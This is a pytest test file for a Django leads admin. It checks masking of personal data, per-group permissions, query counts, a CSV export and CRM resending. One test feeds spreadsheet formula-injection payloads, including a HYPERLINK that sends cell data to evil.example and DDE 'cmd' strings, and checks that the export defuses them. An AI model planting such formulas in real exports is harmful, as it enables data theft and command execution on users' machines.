"""The leads' admin over HTTP: the list's columns, the page's labelled tables, the CSV export's
exact bytes, the resend action, who may use them, masking, and the query count."""

import csv
import html
import io
import uuid
from datetime import UTC, datetime
from typing import Any

import pytest
from django.contrib.auth.models import Group, Permission, User
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from model_bakery import baker
from pytest_django import DjangoCaptureOnCommitCallbacks, Settings

from conversations.models import CrmStatus, Instance, Lead, Session
from knowledge_base.models import Intent, Segment, Service
from tests.fakes.webhook_receiver import WebhookReceiver, receiver  # noqa: F401

pytestmark = pytest.mark.django_db

LIST = "/admin/conversations/lead/"
CREATED = datetime(2026, 3, 11, 15, 0, tzinfo=UTC)  # 12:00 in Brasília
DATA: dict[str, Any] = {
    "nome_cliente": "Ana Lima",
    "telefone": "5511988887777",
    "segmento": "AMBIENTAL",
    "intencao": "ORCAMENTO",
    "servico": "AGUA_POTABILIDADE",
    "qualification_data": {"tipo_amostra": "poço", "quantidade_amostras": 2, "urgente": True},
    "cadastro": {
        "nome": "Ana Lima",
        "email": "ana@example.com",
        "documento": "11222333000181",
        "empresa": "Água Limpa Ltda",
        "cidade": "Campinas",
        "uf": "SP",
    },
}


@pytest.fixture(autouse=True)
def catalog(db: None) -> None:
    segment = Segment.objects.create(code="AMBIENTAL", label="Ambiental")
    Intent.objects.create(code="ORCAMENTO", label="Orçamento")
    Service.objects.create(
        code="AGUA_POTABILIDADE",
        label="Potabilidade da água",
        segment=segment,
        parameter_schema=[
            {"name": "tipo_amostra", "label": "Tipo de amostra"},
            {"name": "quantidade_amostras", "label": "Quantidade de amostras", "type": "integer"},
            {"name": "urgente", "label": "Urgente", "type": "boolean"},
        ],
    )


def make_lead(phone: str = "5511988887777", *, simulated: bool = False, **fields: Any) -> Lead:
    instance = Instance.objects.first() or baker.make(
        Instance, phone_number_id="100000000000001", name="Lab Central"
    )
    session = Session.objects.create(
        instance=instance,
        state="HUMAN",
        customer_name="Ana Lima",
        customer_phone=phone,
        registration_data=DATA["cadastro"],
        is_simulated=simulated,
    )
    fields = {"data": DATA, "created_at": CREATED, **fields}
    return Lead.objects.create(session=session, **fields)


def client_of(group: str | None = None, *, superuser: bool = False) -> Client:
    user = baker.make(
        User, username=f"u-{uuid.uuid4().hex[:8]}", is_staff=True, is_superuser=superuser
    )
    if group:
        user.groups.add(Group.objects.get(name=group))
    client = Client()
    client.force_login(user)
    return client


def text(response: Any) -> str:
    assert response.status_code == 200, response.status_code
    return html.unescape(response.content.decode())


def test_the_list_shows_name_company_service_segment_created_and_crm_status() -> None:
    lead = make_lead(crm_status=CrmStatus.FAILED)

    page = text(client_of("Support").get(LIST))

    assert f'<a href="/admin/conversations/lead/{lead.pk}/change/">Ana Lima</a></th>' in page
    for cell in (
        '<td class="field-company">Água Limpa Ltda</td>',
        '<td class="field-service_name">Potabilidade da água</td>',
        '<td class="field-segment_name">Ambiental</td>',
        '<td class="field-created_at nowrap">11/03/2026 12:00</td>',
        '<td class="field-crm_status">falhou</td>',
    ):
        assert cell in page


def test_a_prompt_editor_reads_the_list_masked_and_has_no_actions() -> None:
    make_lead()

    page = text(client_of("Prompt editors").get(LIST))

    assert ">A*** L***</a></th>" in page
    assert '<td class="field-company">Á*** L*** L***</td>' in page
    assert "Ana Lima" not in page
    assert 'name="action"' not in page


def test_support_sees_both_actions() -> None:
    make_lead()

    page = text(client_of("Support").get(LIST))

    assert '<option value="export_csv">Exportar para CSV (planilha)</option>' in page
    assert '<option value="resend_to_crm">Reenviar ao CRM</option>' in page


def test_the_list_costs_the_same_queries_for_one_lead_or_ten() -> None:
    client = client_of("Support")
    make_lead()
    with CaptureQueriesContext(connection) as one:
        text(client.get(LIST))
    for n in range(9):
        make_lead(phone=f"55119000000{n:02d}")
    with CaptureQueriesContext(connection) as ten:
        page = text(client.get(LIST))

    assert page.count("Potabilidade da água</td>") == 10
    assert len(ten) == len(one)


def test_the_page_shows_the_confirmed_data_as_labelled_tables_and_links_the_conversation() -> None:
    lead = make_lead(crm_status=CrmStatus.SENT, crm_attempts=1)

    page = text(client_of("Support").get(f"/admin/conversations/lead/{lead.pk}/change/"))

    rows = {
        "Nome": "Ana Lima",
        "E-mail": "ana@example.com",
        "Documento (CPF/CNPJ)": "11.222.333/0001-81",
        "Empresa": "Água Limpa Ltda",
        "Cidade": "Campinas",
        "UF": "SP",
        "Telefone WhatsApp": "5511988887777",
        "Segmento": "Ambiental (AMBIENTAL)",
        "Intenção": "Orçamento (ORCAMENTO)",
        "Serviço": "Potabilidade da água (AGUA_POTABILIDADE)",
        "Tipo de amostra": "poço",
        "Quantidade de amostras": "2",
        "Urgente": "sim",
    }
    assert [k for k, v in rows.items() if f'<th scope="row">{k}</th><td>{v}</td>' not in page] == []
    url = f"/admin/conversations/session/{lead.session_id}/change/"
    assert f'<a href="{url}">Abrir conversa #{lead.session_id}</a>' in page
    # No raw JSON of the data.
    assert '"cadastro"' not in page
    assert '"tipo_amostra"' not in page


def post_action(client: Client, action: str, *leads: Lead) -> Any:
    return client.post(
        LIST, {"action": action, "_selected_action": [lead.pk for lead in leads], "index": 0}
    )


EXPECTED_HEADER = (
    "Lead;Conversa;Criado em;Nome;E-mail;Documento (CPF/CNPJ);Empresa;Cidade;UF;"
    "Telefone alternativo;Telefone WhatsApp;Segmento;Intenção;Serviço;Dados técnicos;"
    "Status no CRM;Tentativas de envio\r\n"
)


def test_support_exports_the_chosen_leads_as_a_pt_br_spreadsheet_csv() -> None:
    first = make_lead(crm_status=CrmStatus.SENT, crm_attempts=1)
    second = make_lead(
        phone="5511977776666",
        data={**DATA, "cadastro": {**DATA["cadastro"], "nome": 'Bia "B"; Souza'}},
        created_at=datetime(2026, 3, 12, 13, 30, tzinfo=UTC),
    )

    response = post_action(client_of("Support"), "export_csv", first, second)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="leads_')
    technical = "Tipo de amostra: poço | Quantidade de amostras: 2 | Urgente: sim"
    common = "Água Limpa Ltda;Campinas;SP;;5511988887777;Ambiental;Orçamento;Potabilidade da água"
    assert response.content == (
        b"\xef\xbb\xbf"
        + (
            EXPECTED_HEADER
            + f"{first.pk};{first.session_id};11/03/2026 12:00;Ana Lima;ana@example.com;"
            f"11.222.333/0001-81;{common};{technical};enviado;1\r\n"
            + f'{second.pk};{second.session_id};12/03/2026 10:30;"Bia ""B""; Souza";'
            f"ana@example.com;11.222.333/0001-81;{common};{technical};pendente;0\r\n"
        ).encode()
    )


def test_a_simulated_conversation_s_lead_is_neither_listed_nor_exported() -> None:
    real = make_lead()
    simulated = make_lead(phone="5500900000001", simulated=True)
    support = client_of("Support")

    page = text(support.get(LIST))
    exported = post_action(support, "export_csv", real, simulated)
    opened = support.get(f"/admin/conversations/lead/{simulated.pk}/change/")

    assert f"/admin/conversations/lead/{real.pk}/change/" in page
    assert f"/admin/conversations/lead/{simulated.pk}/change/" not in page
    rows = exported.content.decode("utf-8-sig").splitlines()
    assert [row.split(";")[0] for row in rows[1:]] == [str(real.pk)]
    assert opened.status_code == 302  # the admin's "no such object" redirect to the list


def test_a_superuser_without_the_group_exports_too() -> None:
    lead = make_lead()

    response = post_action(client_of(superuser=True), "export_csv", lead)

    assert response.content.startswith(b"\xef\xbb\xbf" + EXPECTED_HEADER.encode())


@pytest.mark.parametrize("action", ["export_csv", "resend_to_crm"])
def test_a_prompt_editor_s_crafted_action_is_refused(action: str) -> None:
    lead = make_lead(crm_status=CrmStatus.FAILED)

    response = post_action(client_of("Prompt editors"), action, lead)

    assert response.status_code == 403
    lead.refresh_from_db()
    assert lead.crm_status == "failed"


def test_an_exporter_without_the_personal_data_permission_exports_masked() -> None:
    user = baker.make(User, username="exporter", is_staff=True)
    user.user_permissions.add(*Permission.objects.filter(codename__in=["view_lead", "export_lead"]))
    client = Client()
    client.force_login(user)
    lead = make_lead()

    response = post_action(client, "export_csv", lead)

    row = response.content.decode("utf-8-sig").splitlines()[1]
    assert row.split(";")[3:6] == ["A*** L***", "***@***", "**************"]


# (the registration's field, the column of the export) of what the customer writes freely.
FREE_TEXT = {"nome": 3, "email": 4, "empresa": 6, "cidade": 7}


def exported_rows(*leads: Lead) -> list[list[str]]:
    response = post_action(client_of("Support"), "export_csv", *leads)
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))[1:]


@pytest.mark.parametrize("field", sorted(FREE_TEXT))
@pytest.mark.parametrize(
    ("value", "exported"),
    [
        (
            '=HYPERLINK("http://evil.example/?d="&A1;"Clique")',
            '\'=HYPERLINK("http://evil.example/?d="&A1;"Clique")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3@example.com", "'-2+3@example.com"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
    ],
    ids=["equals", "plus", "minus", "at", "tab", "carriage-return"],
)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(
    field: str, value: str, exported: str
) -> None:
    lead = make_lead(data={**DATA, "cadastro": {**DATA["cadastro"], field: value}})

    [row] = exported_rows(lead)

    assert row[FREE_TEXT[field]] == exported
    untouched = {"nome": "Ana Lima", "email": "ana@example.com", "empresa": "Água Limpa Ltda"}
    untouched["cidade"] = "Campinas"
    assert {name: row[FREE_TEXT[name]] for name in untouched if name != field} == {
        name: text for name, text in untouched.items() if name != field
    }


@pytest.mark.parametrize(
    "value",
    ["Ana=Lima", " =1+1", "'=1+1", "Maria-Clara", "ana+crm@example.com", "\n=1+1"],
    ids=[
        "equals-inside",
        "space-first",
        "quoted-already",
        "minus-inside",
        "plus-inside",
        "newline",
    ],
)
def test_a_formula_character_anywhere_but_first_is_exported_as_it_is(value: str) -> None:
    lead = make_lead(data={**DATA, "cadastro": {**DATA["cadastro"], "empresa": value}})

    [row] = exported_rows(lead)

    assert row[6] == value


def test_the_formula_rule_reaches_the_exact_bytes_of_a_quoted_cell() -> None:
    """A carriage return makes the writer quote the cell: the ``'`` goes inside the quotes."""
    lead = make_lead(data={**DATA, "cadastro": {**DATA["cadastro"], "cidade": "\r=1+1"}})

    response = post_action(client_of("Support"), "export_csv", lead)

    assert ';"\'\r=1+1";SP;' in response.content.decode("utf-8-sig")


def test_support_resends_failed_leads_to_the_crm(
    settings: Settings,
    receiver: WebhookReceiver,  # noqa: F811
    django_capture_on_commit_callbacks: DjangoCaptureOnCommitCallbacks,
) -> None:
    settings.CRM_WEBHOOK_URL, settings.CRM_WEBHOOK_SECRET = receiver.url, "crm-secret"
    lead = make_lead(crm_status=CrmStatus.FAILED, crm_attempts=6, crm_error="HTTP 503")

    with django_capture_on_commit_callbacks(execute=True):
        response = post_action(client_of("Support"), "resend_to_crm", lead)

    assert response.status_code == 302
    lead.refresh_from_db()
    assert (lead.crm_status, lead.crm_attempts, lead.crm_error) == ("sent", 7, "")
    assert [r.json["lead_id"] for r in receiver.received] == [lead.pk]


def test_resend_without_a_crm_url_says_so_and_changes_nothing() -> None:
    lead = make_lead(crm_status=CrmStatus.NOT_CONFIGURED)
    client = client_of("Support")

    response = post_action(client, "resend_to_crm", lead)

    assert response.status_code == 302
    page = text(client.get(LIST))
    assert "CRM_WEBHOOK_URL não está configurada: nada foi enviado." in page
    lead.refresh_from_db()
    assert lead.crm_status == "not_configured"
